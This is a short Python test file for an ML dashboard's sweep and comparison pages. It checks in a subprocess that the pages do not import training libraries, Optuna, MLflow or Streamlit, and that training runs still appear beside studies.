def test_the_page_imports_neither_training_code_nor_optuna():
    code = (
        "import sys, dashboard.pages.sweep, mlflow\n"
        "bad = {'torch', 'lightning', 'torchvision', 'optuna', 'lightning_modules', 'datamodules'} & set(sys.modules)\n"
        "ours = {name for name in sys.modules if name.startswith('app.')}\n"
        "bad |= ours - {'app.comparison', 'app.comparison.statistics'}\n"
        "sys.exit(repr(bad) if bad else 0)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_reading_a_study_needs_neither_mlflow_nor_streamlit():
    code = "import sys, dashboard.sweep_study, dashboard.sweep_tables as _; bad = {'mlflow', 'streamlit'}"
    code += " & set(sys.modules); sys.exit(bool(bad))"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_runs_of_training_are_still_there_beside_studies(open_page, bare_db, client, write):
    write(mixed())
    write_run(client, client.create_experiment("x"), "exact", 0, 0)
    assert open_page(uri_of(bare_db), "compare").dataframe[0].value["line"].tolist() == ["exact"]
